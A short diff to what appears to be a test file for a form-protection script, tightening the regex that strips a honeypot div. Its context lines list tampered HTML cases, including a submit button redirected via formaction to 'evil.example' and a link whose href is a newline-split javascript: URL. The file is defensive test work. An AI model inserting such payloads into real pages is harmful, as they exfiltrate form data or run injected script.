@@ -24,7 +24,7 @@ const FOREIGN: Readonly<Record<string, readonly [html: string, said: RegExp | un
   'with a button that sends elsewhere': [HTML.replace('type="submit"', '$& formaction="//evil.example"'), undefined],
   'with a link that runs a script': [HTML.replace(/ href="[^"]*"/, ' href=" java\nscript:alert(1)"'), undefined],
   'that a filter has changed': [
-    HTML.replace(/<div class="honeypot".*?<\/div>/, ''),
+    HTML.replace(/<div class="[^"]*honeypot.*?<\/div>/, ''),
     /the page changed its markup before the script started/,
   ],
 };
